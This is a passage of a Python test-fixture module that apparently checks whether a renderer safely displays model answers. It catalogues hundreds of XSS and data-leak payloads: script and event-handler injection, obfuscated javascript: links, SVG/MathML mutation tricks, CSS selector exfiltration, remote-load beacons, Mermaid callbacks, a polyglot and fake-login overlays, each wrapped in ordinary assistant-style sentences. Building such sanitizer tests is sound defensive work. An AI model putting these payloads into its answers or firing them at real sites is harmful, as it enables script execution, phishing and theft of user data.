        "<svg><animate xlink:href=#lnk attributeName=href values=javascript:FLAG />"
        "<a id=lnk><text x=20 y=20>Open</text></a></svg>",
    ),
    (
        "svg-a-xlink-href",
        '<svg><a xlink:href="javascript:FLAG"><text x="20" y="20">Details</text></a></svg>',
    ),
    (
        "svg-a-href-rect",
        '<svg width="100" height="100"><a href="javascript:FLAG"><rect width="100" height="100"/></a></svg>',
    ),
    ("svg-foreignobject-img", "<svg><foreignObject><img src=x onerror=FLAG></foreignObject></svg>"),
    (
        "svg-foreignobject-iframe",
        '<svg><foreignObject width=100 height=100><iframe srcdoc="<script>parent.FLAG</script>">'
        "</iframe></foreignObject></svg>",
    ),
    ("svg-image-onerror", "<svg><image href=x onerror=FLAG /></svg>"),
    ("svg-title-img", "<svg><title><img src=x onerror=FLAG></title></svg>"),
    ("svg-desc-img", "<svg><desc><img src=x onerror=FLAG></desc></svg>"),
    ("svg-style-breakout", "<svg><style><img src=x onerror=FLAG></style></svg>"),
    ("svg-p-style-mutation", '<svg><p><style><g title="</style><img src=x onerror=FLAG>">'),
    ("svg-end-p-style-mutation", '<svg></p><style><a id="</style><img src=x onerror=FLAG>">'),
    (
        "svg-use-data",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='FLAG'/></svg>#x\"/></svg>",
    ),
    (
        "math-maction-statusline",
        "<math><maction actiontype=statusline xlink:href=javascript:FLAG>Click<mtext>more</mtext></maction></math>",
    ),
    ("math-href", "<math href=javascript:FLAG>Click here</math>"),
    ("math-mi-xlink-href", '<math><mi xlink:href="javascript:FLAG">x</mi></math>'),
    ("math-mglyph-style-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=FLAG>"),
    (
        "math-mglyph-style-direct",
        "<math><mtext><mglyph><style><img src=x onerror=FLAG></style></mglyph></mtext></math>",
    ),
    ("math-style-breakout", "<math><style><img src=x onerror=FLAG></style></math>"),
    ("noembed-title", '<noembed><p title="</noembed><img src=x onerror=FLAG>">'),
    ("noframes-title", '<noframes><p title="</noframes><img src=x onerror=FLAG>">'),
    (
        "noscript-svg-style",
        '<noscript><svg><style><img title="</noscript><img src=x onerror=FLAG>">',
    ),
)

_URL_SCHEME = (
    ("md-javascript", "[Open the report](javascript:FLAG)"),
    ("md-mixed-case", "[Open the report](JaVaScRiPt:FLAG)"),
    ("md-upper", "[docs](JAVASCRIPT:FLAG)"),
    ("md-hex-entity", "[docs](jav&#x61;script:FLAG)"),
    ("md-dec-entity", "[docs](&#106;avascript:FLAG)"),
    ("md-colon-entity", "[docs](javascript&colon;FLAG)"),
    ("md-colon-dec-entity", "[docs](javascript&#58;FLAG)"),
    ("md-backslash-colon", "[docs](javascript\\:FLAG)"),
    ("md-tab-entity", "[docs](java&#x09;script:FLAG)"),
    ("md-newline-entity", "[docs](java&#x0A;script:FLAG)"),
    ("md-cr-entity", "[docs](java&#13;script:FLAG)"),
    ("md-tab-pointy", "[docs](<java\tscript:FLAG>)"),
    ("md-leading-spaces", "[docs](   javascript:FLAG)"),
    ("md-leading-control-pointy", "[docs](<\x01javascript:FLAG>)"),
    ("md-null-in-scheme", "[docs](<java\x00script:FLAG>)"),
    ("md-title", '[docs](javascript:FLAG "Official documentation")'),
    ("md-void-parens", "[docs](javascript:void(FLAG))"),
    ("md-comment-newline", "[example.org/docs](javascript://example.org/docs/%0aFLAG)"),
    ("md-image-inside-link", "[![build status](https://example.org/badge.svg)](javascript:FLAG)"),
    ("md-image-javascript", "![diagram](javascript:FLAG)"),
    ("md-data-base64", f"[preview](data:text/html;base64,{_DATA_PAGE}#FLAG)"),
    ("md-data-html", "[preview](data:text/html,<script>FLAG</script>)"),
    ("md-vbscript", "[docs](vbscript:FLAG:msgbox(1))"),
    ("a-javascript", '<a href="javascript:FLAG">Open the report</a>'),
    ("a-unquoted", "<a href=javascript:FLAG>docs</a>"),
    ("a-upper", '<A HREF="JAVASCRIPT:FLAG">docs</A>'),
    ("a-tab", '<a href="java\tscript:FLAG">docs</a>'),
    ("a-newline", 'See <a href="java\nscript:FLAG">the docs</a>.'),
    ("a-null", '<a href="java\x00script:FLAG">docs</a>'),
    ("a-leading-control", '<a href="\x01 javascript:FLAG">docs</a>'),
    ("a-leading-control-entity", '<a href="&#14;javascript:FLAG">docs</a>'),
    ("a-tab-entity", '<a href="java&#x09;script:FLAG">docs</a>'),
    ("a-colon-entity", '<a href="javascript&colon;FLAG">docs</a>'),
    (
        "a-all-entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;FLAG">docs</a>',
    ),
    ("a-padded-entity-no-semicolon", '<a href="&#0000106avascript:FLAG">docs</a>'),
    ("a-data-base64", f'<a href="data:text/html;base64,{_DATA_PAGE}#FLAG">preview</a>'),
    ("a-vbscript", '<a href="vbscript:FLAG:msgbox(1)">docs</a>'),
    ("form-action", "<form action=javascript:FLAG><button>Submit</button></form>"),
    ("button-formaction", "<form><button formaction=javascript:FLAG>Continue</button></form>"),
    ("input-formaction", "<form><input type=submit formaction=javascript:FLAG value=Go></form>"),
    ("iframe-javascript", "<iframe src=javascript:FLAG></iframe>"),
    ("iframe-javascript-parent", '<iframe src="javascript:parent.FLAG"></iframe>'),
    ("iframe-data-html", '<iframe src="data:text/html,<script>FLAG</script>"></iframe>'),
    ("object-javascript", "<object data=javascript:FLAG></object>"),
    ("embed-javascript", "<embed src=javascript:FLAG>"),
    ("base-javascript", '<base href="javascript:/a/,FLAG//"><a href="x">Open the report</a>'),
    ("meta-refresh-javascript", '<meta http-equiv=refresh content="0;url=javascript:FLAG">'),
    (
        "area-javascript",
        f'<img src="{_GIF}" width=200 height=100 usemap=#m>'
        "<map name=m><area shape=rect coords=0,0,200,100 href=javascript:FLAG></map>",
    ),
)

_AUTOLINK_REFERENCE = (
    ("autolink-javascript", "<javascript:FLAG>"),
    ("autolink-upper", "<JAVASCRIPT:FLAG>"),
    ("autolink-comment-newline", "<javascript://example.org/%0aFLAG>"),
    ("autolink-in-sentence", "The docs are at <javascript:FLAG> if you need them."),
    ("autolink-data-html", "<data:text/html,%3Cscript%3EFLAG%3C/script%3E>"),
    ("autolink-vbscript", "<vbscript:FLAG>"),
    ("autolink-then-html", '<https://example.org/"><img src=x onerror=FLAG>'),
    ("ref-full", "Read [the migration guide][guide] first.\n\n[guide]: javascript:FLAG"),
    ("ref-collapsed", "Read [the guide][] first.\n\n[the guide]: javascript:FLAG"),
    ("ref-shortcut", "Read [the guide] first.\n\n[the guide]: javascript:FLAG"),
    ("ref-pointy", "See [docs][d].\n\n[d]: <javascript:FLAG>"),
    ("ref-title", 'See [docs][d].\n\n[d]: javascript:FLAG "Official documentation"'),
    ("ref-entity", "See [docs][d].\n\n[d]: jav&#x61;script:FLAG"),
    ("ref-case-folded", "See [Docs][GUIDE].\n\n[guide]: JavaScript:FLAG"),
    ("ref-defined-first", "[guide]: javascript:FLAG\n\nSee [the guide][guide] for details."),
    ("ref-defined-in-blockquote", "> [note]: javascript:FLAG\n\nSee [the note][note]."),
    (
        "ref-defined-in-list",
        "- [step]: javascript:FLAG\n- second item\n\nDo [this step][step] first.",
    ),
    ("ref-indented-three", "See [docs][d].\n\n   [d]: javascript:FLAG"),
    ("ref-image", "![usage chart][chart]\n\n[chart]: LEAK"),
    ("ref-image-shortcut", '![chart]\n\n[chart]: LEAK "Usage chart"'),
    ("ref-image-collapsed", "![chart][]\n\n[chart]: <LEAK>"),
    ("image-inside-link", "[![usage chart](LEAK)](https://example.org/dashboards/usage)"),
    ("title-breakout-double", '[docs](https://example.org/docs "\\"><img src=x onerror=FLAG>")'),
    ("title-html-single", "[docs](https://example.org/docs '<img src=x onerror=FLAG>')"),
    ("title-html-parens", "[docs](https://example.org/docs (<svg onload=FLAG>))"),
    (
        "ref-title-html",
        "See [docs][d].\n\n[d]: https://example.org/docs '<img src=x onerror=FLAG>'",
    ),
    ("image-title-breakout", '![chart](missing.png "\\"><img src=x onerror=FLAG>")'),
)

_REMOTE_LOAD = (
    ("md-image", "![usage chart](LEAK)"),
    ("md-image-title", '![usage chart](LEAK "Daily usage")'),
    ("md-image-pointy", "![usage chart](<LEAK>)"),
    ("md-image-inline", "As the chart ![chart](LEAK) shows, usage peaked on Monday."),
    ("md-image-empty-alt", "![](LEAK)"),
    ("img-src", "<img src=LEAK>"),
    ("img-src-hidden", '<img src="LEAK" width="1" height="1" style="display:none">'),
    ("img-srcset", '<img srcset="LEAK 1x">'),
    ("img-srcset-width", '<img src=x srcset="LEAK 800w" sizes="100vw">'),
    ("image-alias-src", "<image src=LEAK>"),
    ("picture-source", '<picture><source srcset="LEAK"><img src=x alt=""></picture>'),
    ("video-poster", "<video poster=LEAK></video>"),
    ("video-src", "<video src=LEAK preload=auto></video>"),
    ("video-source", "<video><source src=LEAK type=video/mp4></video>"),
    ("audio-src", "<audio src=LEAK></audio>"),
    ("audio-source", "<audio><source src=LEAK></audio>"),
    ("track", "<video src=x><track default kind=captions src=LEAK></video>"),
    ("input-image", "<input type=image src=LEAK>"),
    ("link-stylesheet", "<link rel=stylesheet href=LEAK>"),
    ("link-prefetch", "<link rel=prefetch href=LEAK>"),
    ("link-preload", "<link rel=preload as=image href=LEAK>"),
    ("link-icon", "<link rel=icon href=LEAK>"),
    ("iframe-src", "<iframe src=LEAK></iframe>"),
    ("iframe-srcdoc-img", '<iframe srcdoc="<img src=LEAK>"></iframe>'),
    ("object-data", "<object data=LEAK></object>"),
    ("embed-src", "<embed src=LEAK>"),
    ("body-background", "<body background=LEAK>"),
    ("table-background", "<table background=LEAK><tr><td>cell</td></tr></table>"),
    ("td-background", "<table><tr><td background=LEAK>cell</td></tr></table>"),
    ("div-style-background", '<div style="background:url(LEAK)">note</div>'),
    ("style-import", "<style>@import 'LEAK';</style>"),
    ("style-body-background", "<style>body{background:url(LEAK)}</style>"),
    ("svg-image-href", "<svg><image href=LEAK /></svg>"),
    ("svg-image-xlink-href", '<svg><image xlink:href="LEAK" width="10" height="10"/></svg>'),
    ("meta-refresh", '<meta http-equiv=refresh content="0;url=LEAK">'),
)

_HTML_IN_BLOCKS = (
    ("bullet-item", "- Install the package\n- <img src=x onerror=FLAG>\n- Restart the kernel"),
    ("ordered-item", "1. Open the notebook\n2. <script>FLAG</script>\n3. Run all cells"),
    ("ordered-item-inline", "1. Click <svg onload=FLAG> the button\n2. Wait for the result"),
    ("nested-list", "- Setup\n  - Python 3.11\n    - <img src=x onerror=FLAG>\n- Usage"),
    ("nested-list-remote", "1. Data\n   - source: <img src=LEAK>\n2. Model"),
    (
        "list-item-after-code",
        "1. Run the build:\n\n   ```bash\n   make all\n   ```\n\n"
        "   <details open ontoggle=FLAG><summary>log</summary>ok</details>\n\n2. Check the output",
    ),
    (
        "list-lazy-continuation",
        "- a long item that continues\n<img src=x onerror=FLAG> on the next line",
    ),
    (
        "table-cell",
        "| Step | Result |\n|------|--------|\n| build | <img src=x onerror=FLAG> |\n| test | ok |",
    ),
    ("table-header", "| <svg onload=FLAG> | value |\n|---|---:|\n| a | 1 |"),
    ("table-cell-image", "| Name | Logo |\n|:-----|:----:|\n| Acme | ![logo](LEAK) |"),
    ("table-cell-link", "| Doc | Link |\n|-----|------|\n| guide | [open](javascript:FLAG) |"),
    ("table-cell-escaped-pipe", "| a | b |\n|---|---|\n| <img src=x onerror=FLAG \\| x> | 2 |"),
    ("blockquote", "> Note: <img src=x onerror=FLAG>"),
    ("blockquote-nested", "> Quoted reply:\n>\n> > <script>FLAG</script>"),
    ("blockquote-list", "> - first\n> - <iframe src=LEAK></iframe>"),
    ("heading-atx", "## Results <img src=x onerror=FLAG>"),
    ("heading-setext", "Results <svg onload=FLAG>\n======="),
    ("strong", "**Important: <img src=x onerror=FLAG> read this**"),
    ("emphasis", "_see <script>FLAG</script> below_"),
    ("strikethrough", "~~old value <img src=LEAK>~~"),
    ("link-text", "[<img src=x onerror=FLAG>](https://example.org/docs)"),
    ("link-text-svg", "[see <svg onload=FLAG> here](https://example.org/docs)"),
    ("inline-math", "The bound is $x < y <img src=x onerror=FLAG> z$ for all inputs."),
    ("inline-math-only-html", "Solve $<img src=x onerror=FLAG>$ first."),
    ("inline-math-remote", "We get $a<b$ and $<img src=LEAK>$ here."),
    ("display-math-script", "$$\n<script>FLAG</script>\n$$"),
    ("display-math-img", "$$\nx < y <img src=x onerror=FLAG>\n$$"),
    ("display-math-text", "$$\n\\text{<img src=x onerror=FLAG>}\n$$"),
    ("display-math-href", "$$\n\\href{javascript:FLAG}{\\text{click}}\n$$"),
    ("inline-math-href", "The link $\\href{javascript:FLAG}{x}$ is in the formula."),
    ("html-block-with-markdown", "<div>\n\n*Note* <img src=x onerror=FLAG>\n\n</div>"),
    ("indented-code-html", "    <img src=x onerror=FLAG>"),
    ("footnote-like", "As noted[^1].\n\n[^1]: <img src=x onerror=FLAG>"),
)

_CSS = (
    ("expression", '<div style="width:expression(FLAG)">x</div>'),
    ("style-expression", "<style>*{x:expression(FLAG)}</style>"),
    ("url-javascript", '<div style="background:url(javascript:FLAG)">x</div>'),
    ("style-url-javascript", "<style>body{background-image:url('javascript:FLAG')}</style>"),
    ("moz-binding", '<div style="-moz-binding:url(LEAK#xss)">x</div>'),
    ("style-moz-binding", "<style>body{-moz-binding:url('LEAK#xss')}</style>"),
    ("behavior", '<div style="behavior:url(LEAK)">x</div>'),
    ("import-url", '<style>@import url("LEAK");</style>'),
    ("import-media", "<style>@import url(LEAK) screen;</style>"),
    ("import-no-space", "<style>@import'LEAK';</style>"),
    ("import-escaped", "<style>@\\69mport 'LEAK';</style>"),
    ("url-escaped", '<div style="background:u\\72 l(LEAK)">x</div>'),
    ("url-entity-quotes", '<div style="background-image:url(&quot;LEAK&quot;)">x</div>'),
    ("universal-background", "<style>*{background-image:url(LEAK)}</style>"),
    ("before-content", "<style>body::before{content:url(LEAK)}</style>"),
    ("font-face", "<style>@font-face{font-family:nbx;src:url(LEAK)}*{font-family:nbx}</style>"),
    (
        "attribute-selector-exfiltration",
        '<style>input[value^="s"]{background:url(LEAK)}</style><input value="secret">',
    ),
    ("media-query", "<style>@media all{body{background:url(LEAK)}}</style>"),
    ("link-data-css", "<link rel=stylesheet href=\"data:text/css,@import 'LEAK';\">"),
    (
        "overlay-link",
        '<a href="javascript:FLAG" style="position:fixed;top:0;left:0;width:100%;height:100%;'
        'z-index:99999;opacity:0">Continue</a>',
    ),
    (
        "overlay-fake-login",
        '<div style="position:fixed;inset:0;background:#fff;z-index:99999;padding:20%">'
        '<a href="javascript:FLAG">Your session expired. Click here to sign in again.</a></div>',
    ),
)

_MERMAID_AND_FENCES = (
    (
        "mermaid-click-callback",
        '```mermaid\ngraph TD\n  A[Start] --> B[Done]\n  click A callback "FLAG"\n```',
    ),
    (
        "mermaid-click-href",
        '```mermaid\ngraph TD\n  A[Docs] --> B[API]\n  click A href "javascript:FLAG"\n```',
    ),
    ("mermaid-click-call", "```mermaid\nflowchart LR\n  A --> B\n  click B call eval(FLAG)\n```"),
    (
        "mermaid-init-loose-img",
        '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD\n'
        '  A["<img src=x onerror=FLAG>"] --> B[ok]\n```',
    ),
    ("mermaid-label-img", '```mermaid\ngraph LR\n  A["<img src=x onerror=FLAG>"] --> B[Done]\n```'),
    (
        "mermaid-sequence-note",
        "```mermaid\nsequenceDiagram\n  Alice->>Bob: Hello\n"
        "  Note right of Bob: <img src=x onerror=FLAG>\n```",
    ),
    (
        "mermaid-class-link",
        '```mermaid\nclassDiagram\n  class Order\n  link Order "javascript:FLAG" "details"\n```',
    ),
    (
        "mermaid-init-htmllabels",
        '```mermaid\n%%{init: {"securityLevel":"loose","flowchart":{"htmlLabels":true}}}%%\n'
        'flowchart TD\n  A["<iframe src=javascript:FLAG></iframe>"] --> B\n'
        '  click A href "javascript:FLAG"\n```',
    ),
    ("html-fence", "```html\n<script>FLAG</script>\n<div onmouseover=FLAG>hover</div>\n```"),
    (
        "svg-fence",
        '```svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="FLAG"><script>FLAG</script></svg>\n```',
    ),
    ("xml-fence-remote", '```xml\n<img src="LEAK"/>\n```'),
    ("tilde-fence", "~~~html\n<img src=x onerror=FLAG>\n~~~"),
    ("tilde-fence-no-info", "~~~\n<script>FLAG</script>\n~~~"),
    ("longer-open-shorter-close", "````python\nprint('hi')\n```\n<img src=x onerror=FLAG>\n````"),
    ("shorter-open-longer-close", "```js\nlet x = 1;\n`````\n<img src=x onerror=FLAG>"),
    ("backtick-open-tilde-close", "```html\n<b>hi</b>\n~~~\n<img src=x onerror=FLAG>\n```"),
    ("close-with-trailing-text", "```\ncode\n``` <img src=x onerror=FLAG>\nmore\n```"),
    ("close-indented-four", "```\ncode\n    ```\n<img src=x onerror=FLAG>\n```"),
    ("info-string-html", "```<img src=x onerror=FLAG>\nprint(1)\n```"),
    ("inline-code-html", "Use `<img src=x onerror=FLAG>` to show an image."),
    ("double-backtick-code", "Write ``<script>FLAG</script>`` in the page."),
    ("unbalanced-inline-code", "A stray ` backtick <img src=x onerror=FLAG> and `code`"),
    (
        "fence-in-list-dedented-close",
        "- step\n\n  ```html\n  <b>ok</b>\n```\n<img src=x onerror=FLAG>\n  ```",
    ),
)

# Split points are marked with MARK (␞); pieces() gives the deltas, joined() the whole text.
_SPLIT_STREAM = (
    ("img-handler-name", "<img src=x on␞error=FLAG>"),
    ("img-before-handler", "<img src=x ␞onerror=FLAG>"),
    ("img-handler-value", "<img src=x onerror=␞FLAG>"),
    ("lone-angle", "<␞img src=x onerror=FLAG>"),
    ("tag-name", "<scr␞ipt>FLAG</script>"),
    ("script-end-tag", "<script>FLAG</scr␞ipt>"),
    ("script-src", "<scr␞ipt src=LEAK></scr␞ipt>"),
    ("svg-onload", "<svg␞ onload=FLAG>"),
    ("details", "<details open ␞ontoggle=FLAG>"),
    ("img-src-remote", "<img src=␞LEAK>"),
    ("quoted-attribute", '<img src="x" onerror="␞FLAG␞">'),
    ("per-character", "<␞i␞m␞g␞ ␞s␞r␞c␞=␞x␞ ␞o␞n␞e␞r␞r␞o␞r␞=␞FLAG␞>"),
    ("md-link-scheme", "[docs](java␞script:FLAG)"),
    ("md-link-after-colon", "[docs](javascript:␞FLAG)"),
    ("md-link-bracket", "[docs]␞(javascript:FLAG)"),
    ("md-link-entity", "[docs](jav&#x␞61;script:FLAG)"),
    ("md-image", "![chart](␞LEAK)"),
    ("md-image-bang", "!␞[chart](LEAK)"),
    ("autolink", "<javascript:␞FLAG>"),
    ("ref-definition", "See [docs][d].\n\n[d]: java␞script:FLAG"),
    (
        "fence-never-closed",
        "Here is the page:\n\n```html␞\n<img src=x onerror=FLAG>\n␞<script>FLAG</script>",
    ),
    ("fence-closed-late", "```␞\n<b>draft</b>\n␞```\n␞<img src=x onerror=FLAG>"),
    ("fence-open-then-html", "```python\nprint(1)\n␞\n<img src=x onerror=FLAG>"),
    ("comment-closed-late", "<!-- draft notes␞ still hidden ␞--><img src=x onerror=FLAG>"),
    ("comment-open-split", "<!␞-- hidden --><img src=x onerror=FLAG>"),
    ("display-math", "$$\n␞<img src=x onerror=FLAG>\n␞$$"),
    ("inline-math", "The value $x␞ < y <img src=x onerror=FLAG>␞$ holds."),
    ("table-cell", "| a | b |\n|---|---|\n| <img src=x ␞onerror=FLAG> | 2 |"),
    ("inline-code-closed-late", "`<img src=x onerror=FLAG>␞`"),
    ("style-import", "<style>@imp␞ort 'LEAK';</style>"),
    ("iframe", "<iframe src=javascript:FLAG>␞</iframe>"),
    ("anchor-text", '<a href="javascript:FLAG">␞Open␞</a>'),
    ("entity-split", '<a href="&#x6A;␞avascript:FLAG">docs</a>'),
    ("noscript-end-tag", '<noscript><p title="</nosc␞ript><img src=x onerror=FLAG>">'),
)

_POLYGLOT_MISC = (
    (
        "polyglot-0xsobky",
        r"""jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=FLAG )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=FLAG//>\x3e""",
    ),
    ("attribute-breakout", "'\"><img src=x onerror=FLAG>"),
    ("context-breakout", "'\"--></style></script></textarea><svg onload=FLAG>"),
    ("comment-plain", "<!-- <img src=x onerror=FLAG> -->"),
    ("comment-abrupt-close", "<!--><img src=x onerror=FLAG>-->"),
    ("comment-abrupt-dash", "<!---><img src=x onerror=FLAG>-->"),
    ("comment-bang-close", "<!-- note --!><img src=x onerror=FLAG> -->"),
    ("cdata-bogus-comment", "<![CDATA[><img src=x onerror=FLAG>]]>"),
    (
        "svg-cdata-breakout",
        '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=FLAG>">]]></svg>',
    ),
    ("processing-instruction", '<?xml version="1.0"?><img src=x onerror=FLAG>'),
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=FLAG>">'),
    ("xmp-title", '<xmp><p title="</xmp><img src=x onerror=FLAG>">'),
    ("textarea-title", '<textarea><p title="</textarea><img src=x onerror=FLAG>">'),
    ("title-title", '<title><p title="</title><img src=x onerror=FLAG>">'),
    ("style-title", '<style><p title="</style><img src=x onerror=FLAG>">'),
    ("iframe-title", '<iframe><p title="</iframe><img src=x onerror=FLAG>">'),
    ("template-plain", "<template><img src=x onerror=FLAG></template>"),
    (
        "template-shadowroot",
        "<div><template shadowrootmode=open><img src=x onerror=FLAG></template></div>",
    ),
    ("custom-element-onclick", "<x onclick=FLAG>click</x>"),
    ("custom-element-autofocus", "<x tabindex=0 autofocus onfocus=FLAG>focus</x>"),
    ("entity-handler-prefix", '<img src=x onerror="&#x2f;&#x2a;x&#x2a;&#x2f;FLAG">'),
    ("entity-srcdoc", '<iframe srcdoc="&lt;img src=x onerror=parent.FLAG&gt;"></iframe>'),
    ("encoded-entities", "&lt;img src=x onerror=FLAG&gt;"),
    ("double-encoded-entities", "&amp;lt;img src=x onerror=FLAG&amp;gt;"),
    ("double-encoded-percent", "%253Cimg%2520src%253Dx%2520onerror%253DFLAG%253E"),
    ("fullwidth-brackets", "＜img src=x onerror=FLAG＞"),
    ("long-s-svg", "<ſvg onload=FLAG>"),
    ("zero-width-in-tag", "<i\u200bmg src=x onerror=FLAG>"),
    ("form-feed-separators", "<img\x0csrc=x\x0conerror=FLAG>"),
    ("nbsp-in-handler", '<img src=x onerror="\u00a0FLAG">'),
    ("rtl-override", "\u202e<img src=x onerror=FLAG>\u202c"),
    ("backtick-attribute", "<img src=`x` onerror=FLAG>"),
    ("triple-quote-attribute", '<img """><script>FLAG</script>">'),
    ("slash-separator-anchor", "<a/href=javascript&colon;FLAG>docs</a>"),
    (
        "object-data-html",
        '<object type="text/html" data="data:text/html,<script>FLAG</script>"></object>',
    ),
)

_GROUPS = (
    ("script", _SCRIPT),
    ("event-handler", _EVENT_HANDLER),
    ("svg-mathml", _SVG_MATHML),
    ("url-scheme", _URL_SCHEME),
    ("autolink-reference", _AUTOLINK_REFERENCE),
    ("remote-load", _REMOTE_LOAD),
    ("html-in-blocks", _HTML_IN_BLOCKS),
    ("css", _CSS),
    ("mermaid-and-fences", _MERMAID_AND_FENCES),
    ("split-stream", _SPLIT_STREAM),
    ("polyglot-misc", _POLYGLOT_MISC),
)

CATEGORIES: tuple[str, ...] = tuple(category for category, _ in _GROUPS)

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(f"{category}/{name}", category, template)
    for category, items in _GROUPS
    for name, template in items
)

# Payloads that do nothing when the text is rendered as raw HTML (or by a Markdown renderer
# that passes HTML and every URL through) in a current browser, even with a click: they
# target old browsers (IE, old Firefox), a sanitize-then-reparse round trip, a filter that
# strips a tag once, a renderer that decodes entities or URLs twice, a math renderer that
# honours \href, or Mermaid. Everything else runs FLAG or fetches LEAK there, some only on a
# click, hover or focus. This is a best judgment, not measured in a browser.
INDIRECT: frozenset[str] = frozenset(
    {
        "script/nested-strip-once",
        "svg-mathml/svg-use-data",
        "svg-mathml/math-maction-statusline",
        "svg-mathml/math-href",
        "svg-mathml/math-mi-xlink-href",
        "svg-mathml/math-mglyph-style-mutation",
        "url-scheme/md-null-in-scheme",
        "url-scheme/md-image-javascript",
        "url-scheme/md-data-base64",
        "url-scheme/md-vbscript",
        "url-scheme/a-null",
        "url-scheme/a-data-base64",
        "url-scheme/a-vbscript",
        "url-scheme/object-javascript",
        "url-scheme/embed-javascript",
        "url-scheme/base-javascript",
        "url-scheme/meta-refresh-javascript",
        "autolink-reference/autolink-data-html",
        "autolink-reference/autolink-vbscript",
        "html-in-blocks/display-math-href",
        "html-in-blocks/inline-math-href",
        "css/expression",
        "css/style-expression",
        "css/url-javascript",
        "css/style-url-javascript",
        "css/moz-binding",
        "css/style-moz-binding",
        "css/behavior",
        "mermaid-and-fences/mermaid-click-callback",
        "mermaid-and-fences/mermaid-click-href",
        "mermaid-and-fences/mermaid-click-call",
        "mermaid-and-fences/mermaid-class-link",
        "polyglot-misc/comment-plain",
        "polyglot-misc/template-plain",
        "polyglot-misc/encoded-entities",
        "polyglot-misc/double-encoded-entities",
        "polyglot-misc/double-encoded-percent",
        "polyglot-misc/fullwidth-brackets",
        "polyglot-misc/long-s-svg",
        "polyglot-misc/zero-width-in-tag",
    }
)


def pieces(text: str) -> list[str]:
    """``text`` cut at every ␞ marker into the deltas a stream would deliver (empty pieces
    dropped); a text without markers is one piece."""
    return [piece for piece in text.split(MARK) if piece]


def joined(text: str) -> str:
    """``text`` with the ␞ markers removed: what the whole stream adds up to."""
    return text.replace(MARK, "")


_BEFORE = (
    "Here is the snippet you asked about:",
    "Sure, this is what the output looks like:",
    "The relevant part of the page is below.",
    "This is the example from the documentation:",
    "I reproduced the problem; the input was:",
)
_AFTER = (
    "Let me know if you want me to explain any part of it.",
    "That should cover the case you described.",
    "Run it again after the change and compare the output.",
    "Hope this helps with the report.",
)


def instantiate(payload: Payload, index: int, leak_base: str) -> str:
    """The model answer carrying ``payload``: an ordinary sentence, the payload with
    ``FLAG`` -> ``window.nbx{index}=1`` and ``LEAK`` -> ``{leak_base}/leak/{index}``, and
    another sentence. Split markers (␞) are kept; use ``pieces`` or ``joined``."""
    body = payload.template.replace("FLAG", f"window.nbx{index}=1")
    body = body.replace("LEAK", f"{leak_base}/leak/{index}")
    before = _BEFORE[index % len(_BEFORE)]
    after = _AFTER[index % len(_AFTER)]
    return f"{before}\n\n{body}\n\n{after}\n"


# ---------------------------------------------------------------------------------------
# 3. One ordinary answer and what its rendering must contain
# ---------------------------------------------------------------------------------------

ORDINARY = r"""# Quarterly report: API usage

## Summary

Usage grew **18%** quarter over quarter, driven almost entirely by the *export* endpoint. The old CSV importer is ~~still supported~~ deprecated as of June and will be removed next quarter. Below is how the numbers were produced, what changed, and a small helper used in the checks.

To reproduce the numbers:

1. Pull the usage table for the quarter from the warehouse.
2. Drop internal accounts and test keys.
3. Aggregate the calls by week and by endpoint.

What changed this quarter:

- The export endpoint now streams its results instead of building a file first.
- Rate limits moved from 5 to 10 requests per second for paid plans.
- Error responses follow the problem-details format.

The range check used when validating rows:

```python
def in_range(a, b, c, d):
    # both bounds must hold: a < b and c > d
    return a < b and c > d
```

| Endpoint | Calls | Change |
|:---------|------:|-------:|
| /v1/export | 1,204,331 | +41% |
| /v1/usage | 880,102 | +6% |
| /v1/plans | 120,554 | -3% |

Most of the growth came from three large accounts that moved their nightly reports to the export endpoint in April. Without them, usage would have grown by about 7%, which is in line with the previous two quarters. The plans endpoint dipped slightly because the pricing page now caches the catalogue for an hour instead of fetching it on every visit.

The increase on the export endpoint is significant ($p < 0.05$, two-sided test on weekly totals). The quarterly total is the sum of the weekly counts:

$$
\sum_{i=1}^n x_i
$$

> Note: the numbers exclude the outage on 14 May, when the collector dropped about two hours of events.

Details are in the [usage dashboard](https://example.org/dashboards/usage) and in the [methodology note](https://example.org/docs/methodology). Next quarter we will add per-plan breakdowns and compare them with the churn figures.
"""

ORDINARY_EXPECT: tuple[tuple[str, int], ...] = (
    ("h1", 1),
    ("h2", 1),
    ("ol > li", 3),
    ("ul > li", 3),
    ("pre code", 1),
    ("table th", 3),
    ("table td", 9),
    ("a[href^='https://']", 2),
    ("blockquote", 1),
    ("strong", 1),
    ("em", 1),
    ("del, s", 1),
)


if __name__ == "__main__":
    names = [payload.name for payload in PAYLOADS]
    assert len(PAYLOADS) >= 220, len(PAYLOADS)
    assert len(set(names)) == len(names), "payload names are not unique"
    assert len({payload.template for payload in PAYLOADS}) == len(PAYLOADS), "duplicate templates"
    assert set(names) >= INDIRECT, sorted(INDIRECT - set(names))
    for payload in PAYLOADS:
        whole = joined(payload.template)
        assert "FLAG" in whole or "LEAK" in whole, payload.name
        assert (MARK in payload.template) == (payload.category == "split-stream"), payload.name
        text = instantiate(payload, 17, "http://127.0.0.1:4567")
        assert "FLAG" not in text and "LEAK" not in text, payload.name
        assert "window.nbx17=1" in text or "http://127.0.0.1:4567/leak/17" in text, payload.name
    for category in CATEGORIES:
        count = sum(payload.category == category for payload in PAYLOADS)
        indirect = sum(
            payload.category == category and payload.name in INDIRECT for payload in PAYLOADS
        )
        assert count >= 12, category
        print(f"{category:20} {count:4}  ({indirect} indirect)")
    print(f"{'total':20} {len(PAYLOADS):4}  ({len(INDIRECT)} indirect)")

    assert len(SECTIONS) >= 12
    for section in SECTIONS:
        assert 400 <= len(section.encode()) <= 4096, section[:40]
    for size in (800, 1000, 1024, 5000, 10_240, 51_200, 102_400, 200_000):
        text = answer(size)
        assert 0.9 * size <= len(text) <= 1.1 * size, (size, len(text))
        assert text.endswith("\n\n") and text == answer(size)
        fences = [m for line in text.split("\n") if (m := _FENCE.match(line))]
